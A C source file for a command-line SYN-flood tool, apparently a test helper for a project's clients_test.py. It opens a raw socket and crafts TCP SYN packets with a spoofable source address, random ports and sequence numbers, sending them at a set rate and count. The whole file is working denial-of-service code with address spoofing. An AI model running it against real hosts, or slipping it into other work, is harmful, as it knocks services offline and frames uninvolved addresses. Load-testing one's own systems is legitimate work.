/* syn_flood SOURCE ADDRESS SYNS PER_SECOND: SYNs from random ports of SOURCE, which need not be this host's,
 * to random ports of ADDRESS; for clients_test.py. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "program.h"

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum_of(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	return sum;
}

static uint16_t tcp_checksum(const struct syn *s)
{
	uint32_t sum = IPPROTO_TCP + (uint32_t)sizeof(s->tcp) + sum_of(&s->ip.saddr, 8) +
		       sum_of(&s->tcp, sizeof(s->tcp));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void flood(const char *source, const char *to, unsigned long count, unsigned long per_second)
{
	struct sockaddr_in from = address_of(source, 0), at = address_of(to, 0);
	int fd = must(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");
	uint64_t start = now_ms();
	for (unsigned long sent = 0; sent < count;) {
		unsigned long due = (now_ms() - start) * per_second / 1000;
		struct timespec pause = {0, 2000000};
		for (; sent < count && sent < due; sent++) {
			struct syn s = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP}};
			struct {
				uint16_t source, to;
				uint32_t seq;
			} noise;
			must((int)getrandom(&noise, sizeof(noise), 0), "getrandom");
			s.ip.saddr = from.sin_addr.s_addr;
			s.ip.daddr = at.sin_addr.s_addr;
			s.ip.tot_len = htons(sizeof(s));
			s.tcp.source = noise.source | htons(1024);
			s.tcp.dest = noise.to | htons(1024);
			s.tcp.seq = noise.seq;
			s.tcp.doff = sizeof(s.tcp) / 4;
			s.tcp.syn = 1;
			s.tcp.window = htons(1024);
			s.tcp.check = tcp_checksum(&s);
			must((int)sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&at, sizeof(at)), "sendto");
		}
		nanosleep(&pause, NULL);
	}
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fputs("usage: syn_flood SOURCE ADDRESS SYNS PER_SECOND\n", stderr);
		return 2;
	}
	flood(argv[1], argv[2], number(argv[3], 1000000), number(argv[4], 1000000));
	return 0;
}
